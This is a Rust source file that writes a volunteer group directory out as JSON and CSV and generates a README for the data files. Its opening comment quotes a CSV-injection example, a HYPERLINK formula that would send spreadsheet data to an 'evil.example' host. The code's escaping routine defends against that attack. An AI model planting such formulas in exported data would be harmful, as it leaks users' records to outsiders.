//! `data/groups.json`, `data/groups.csv` and the `data/README.txt` beside them.
//!
//! The JSON carries the licence and attribution with the records, so a copy taken out of
//! context still says where it came from; the CSV is one row per group for spreadsheets,
//! with lists joined by `;` (no area code, help key or language code contains one).
//!
//! Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` as a formula, so a group
//! named `=HYPERLINK("https://evil.example/?"&A1, "click")` would send a row to a stranger
//! when a volunteer opens the CSV. Every cell that starts with one of those (or a tab or
//! carriage return, which some programs skip before looking) gets a `'` in front, as
//! OWASP's CSV-injection advice says: shown as text, never run. See [`spreadsheet_safe`].

use std::io::Write;

use serde::Serialize;

use super::{GroupRecord, LazySeq, GEO_ATTRIBUTION};
use crate::config::Config;
use crate::content::Group;

/// The separator of list fields in the CSV.
pub const LIST_SEPARATOR: &str = ";";

/// The columns of `groups.csv`, in order.
pub const CSV_COLUMNS: &[&str] = &[
    "slug",
    "name",
    "summary",
    "url",
    "status",
    "last_checked",
    "added",
    "areas",
    "help",
    "languages",
    "phone",
    "phone_tel",
    "email",
    "website",
    "whatsapp",
    "facebook",
    "hours",
    "description_html",
];

#[derive(Serialize)]
struct GroupsFile<'a, G> {
    title: &'a str,
    description: &'a str,
    source: &'a str,
    licence: &'a str,
    attribution: String,
    groups: G,
}

/// Who to credit, in the words a reuser should print.
pub fn attribution(config: &Config) -> String {
    format!(
        "{} ({}), {}. {GEO_ATTRIBUTION}",
        config.title, config.base_url, config.licence
    )
}

/// `groups.json`: `{title, description, source, licence, attribution, groups: [...]}`,
/// written one record at a time.
pub fn json(config: &Config, groups: &[Group], out: &mut dyn Write) -> anyhow::Result<()> {
    let file = GroupsFile {
        title: &config.title,
        description: &config.description,
        source: &config.base_url,
        licence: &config.licence,
        attribution: attribution(config),
        groups: LazySeq(groups, |g: &Group| GroupRecord::new(g, config)),
    };
    serde_json::to_writer(&mut *out, &file)?;
    out.write_all(b"\n")?;
    Ok(())
}

/// `groups.csv`: a header row (`CSV_COLUMNS`), then one row per group.
pub fn csv(config: &Config, groups: &[Group], out: &mut dyn Write) -> anyhow::Result<()> {
    let mut w = ::csv::Writer::from_writer(out);
    w.write_record(CSV_COLUMNS)?;
    let opt = |v: &Option<String>| v.clone().unwrap_or_default();
    for g in groups {
        let r = GroupRecord::new(g, config);
        let cells = [
            r.slug.clone(),
            r.name.clone(),
            r.summary.clone(),
            r.url.clone(),
            r.status.clone(),
            r.last_checked.clone(),
            opt(&r.added),
            r.areas.join(LIST_SEPARATOR),
            r.help.join(LIST_SEPARATOR),
            r.languages.join(LIST_SEPARATOR),
            opt(&r.phone),
            opt(&r.phone_tel),
            opt(&r.email),
            opt(&r.website),
            opt(&r.whatsapp),
            opt(&r.facebook),
            opt(&r.hours),
            r.description_html.clone(),
        ];
        w.write_record(cells.map(spreadsheet_safe))?;
    }
    w.flush()?;
    Ok(())
}

/// A CSV cell that a spreadsheet shows as text: `'` put before one that starts with a
/// formula character (`=`, `+`, `-`, `@`, tab or carriage return).
///
/// Every cell, with no exceptions to keep track of: `phone_tel` (`+441632960001`) too,
/// which a spreadsheet would otherwise turn into the number 441632960001, losing the `+`
/// and, in Excel, showing it as 4.41633E+11. With the quote it reads as typed. The
/// `phone` column is as the group wrote it, usually national form (`01632 960001`), and
/// `groups.json` has every value unchanged for programs.
pub fn spreadsheet_safe(cell: String) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell
    }
}

/// `README.txt`: what each file is, its licence, and how to credit it.
pub fn readme(config: &Config, files: &super::DataFiles) -> String {
    format!(
        "\
{title}: open data
{rule}

Every build of {base} writes these files from the same records as its pages.
{compressed}
{json:<17} every group, every public field, with the licence and attribution
{csv:<17} the same, one row per group; lists (areas, help, languages) joined by \"{sep}\"
{services}
                  the directory as Open Referral UK (the UK profile of HSDS 3.0): one
                  page of full services, each with its organisation, service areas,
                  cost options, contacts, languages and schedules, plus HSDS 3.0 phones;
                  assured_date is the date a volunteer last confirmed the group runs
openreferral/schema.json
                  the JSON Schema those services are checked against
coverage.geojson  the postcode districts the groups cover, each outline once, with the
                  groups covering it (RFC 7946, WGS84 lon/lat); load it into QGIS or
                  any web map (see Coverage polygons, below)
changes.xml       an Atom feed of the newest {feed} groups newly listed, checked, paused
                  or closed, newest first (see The changes feed, below)

Fields
------
status          active, paused (running but not taking requests) or closed
last_checked    YYYY-MM-DD, when someone last confirmed the group runs
added           YYYY-MM-DD, when the group was first listed; empty for groups listed
                before the directory recorded it
areas           postcode districts (NR2) and sectors (NR3 1) the group covers
phone_tel       the phone number in +44 form, for dialling
description_html  sanitised HTML

In groups.csv, a cell that starts with =, +, -, @, a tab or a carriage return has a '
put in front of it, so that a spreadsheet shows it as text instead of running it as a
formula (a group's name is written by whoever sends it in). phone_tel, where a group
has a phone, is always one of them: '+441632960001. Programs reading the CSV should remove a ' before one of those
characters; groups.json has every value exactly as it is.

The changes feed
----------------
The directory keeps no history, only each group's status and dates, so changes.xml has
one entry per group: the latest thing known about it, dated, newest first. It keeps the
newest {feed} entries, enough for a reader that polls it weekly; every group, with its
dates, is in groups.json.

  New: X       listed on the entry's date and not checked again since
  Checked: X   a volunteer confirmed the details on the entry's date (the feed cannot
               say which details, if any, changed: open the link to see them)
  Paused: X    running but not taking requests, as of that check
  Closed: X    no longer running, as of that check

When a group is checked again, paused or closed, its entry is replaced by one with a new
id, so a feed reader shows it as new. An entry's <published> is the date the group was
first listed, when that is known.

Coverage polygons
-----------------
One feature per postcode district that some group covers; its id is the district
(NR2) and its properties say who covers it:

  district        the district's code
  groups          the slugs of every group covering all or part of it (the slug is
                  the \"slug\" field of groups.json, and the last part of the group's page)
  names           those groups' names, in the same order
  group_count     how many groups that is
  partly          the slugs of groups covering only some of its sectors
  sectors         those sectors (NR3 1)
  approximate     true when the outline is more than the groups cover (a sector drawn
                  as its whole district) or a circle standing in for an outline

Each outline is drawn once, however many groups cover it. To see one group's coverage in
QGIS, filter the layer with array_contains(\"groups\", 'the-slug'); to map how well each
district is served, colour it by group_count; join groups.json on the slug for the rest.
There are no open polygons for postcode sectors: a sector is drawn as its whole district. Districts
without a polygon (Northern Ireland, Channel Islands, Isle of Man) are a circle of about
2 km around the district's centroid. District boundaries are notional, drawn from
postcode positions; they are not Royal Mail boundaries.

Licence
-------
The group data is published under {licence}. Credit it as:

  {attribution}

The postcode geography is used under the Open Government Licence v3.0
({ogl}) and CC BY 4.0 (GeoNames).
",
        title = config.title,
        rule = "=".repeat(config.title.chars().count() + 11),
        base = config.base_url,
        sep = LIST_SEPARATOR,
        licence = config.licence,
        attribution = attribution(config),
        ogl = super::OGL_URL,
        feed = super::changes::FEED_ENTRIES,
        json = files.groups_json,
        csv = files.groups_csv,
        services = files.services_json,
        compressed = if files.compressed {
            COMPRESSED_NOTE
        } else {
            ""
        },
    )
}

/// What `README.txt` says when the full-record files are compressed.
const COMPRESSED_NOTE: &str = "
This directory lists more than 10,000 groups, so the three files that hold every group
in full are gzip-compressed (.gz), each about a sixth of its plain size. Open one with
any unzip tool (File Explorer on Windows 11, Archive Utility on a Mac, 7-Zip) or with
`gunzip`; pandas, R, QGIS and most data tools read a .gz file as it is. Below, groups.json
means groups.json.gz unzipped, and so on.
";
